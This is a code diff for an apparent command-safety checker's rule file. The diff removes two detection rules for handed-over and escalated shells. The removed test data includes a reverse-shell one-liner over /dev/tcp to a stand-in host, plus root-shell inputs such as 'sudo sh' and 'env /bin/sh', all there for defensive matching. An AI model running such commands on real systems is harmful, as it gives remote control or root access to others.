@@ -12,7 +12,6 @@ from chimera_guard.rules.registry import line_rule
 
 HIGH = SecurityRisk.HIGH
 WHOLE = frozenset({"workspace", "home", "root"})
-AWAY = frozenset({"connect", "remote-change", "remote-read"})  # what is started then runs elsewhere
 RUNS = frozenset({"exec-script", "exec-program"})
 SENDS = frozenset({"send", "connect", "publish", "listen"})
 
@@ -68,41 +67,6 @@ def much_leaves(effects: Sequence[Effect], context: Context) -> Effect | None:
         if effect.scope in ("system", "startup") and any(effect.span == send.span for send in sends):
             return effect
         if holds_keys(effect.target):
-            return effect
-    return None
-
-
-@line_rule(
-    "shell-handed-over",
-    HIGH,
-    reason="starts a shell, and connects it with another machine",
-    why="Somebody else then types the commands, with your rights.",
-    instead="use ssh, which asks who is there",
-    match=[("bash -i >&/dev/tcp/x.example/99 0>&1", "network-raw")],
-    not_match=["bash -i", "ssh x.example"],
-)
-def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | None:
-    shell = next((e for e in effects if e.kind == "exec-code" and "interactive" in e.flags), None)
-    if shell is None:
-        return None
-    raw = any(e.scope == "remote" and e.kind in ("write", "append", "read") for e in effects)
-    return shell if raw or any(e.kind == "listen" for e in effects) else None
-
-
-@line_rule(
-    "shell-through-program",
-    HIGH,
-    reason="starts {program} through another program, to take whatever is typed or piped into it",
-    why="What is typed there runs with that program's rights, and past every check of single commands.",
-    instead="run the one command that is needed",
-    match=[("sudo sh", "privilege-root"), "env /bin/sh"],
-    not_match=["sh", "docker exec -it web sh", "ssh x.example bash", "sudo ls"],
-)
-def shell_through_program(effects: Sequence[Effect], context: Context) -> Effect | None:
-    for effect in effects:
-        if effect.kind != "exec-code" or not effect.via or "interactive" not in effect.flags:
-            continue
-        if "escape" not in effect.flags and not any(e.kind in AWAY and e.program in effect.via for e in effects):
             return effect
     return None
 
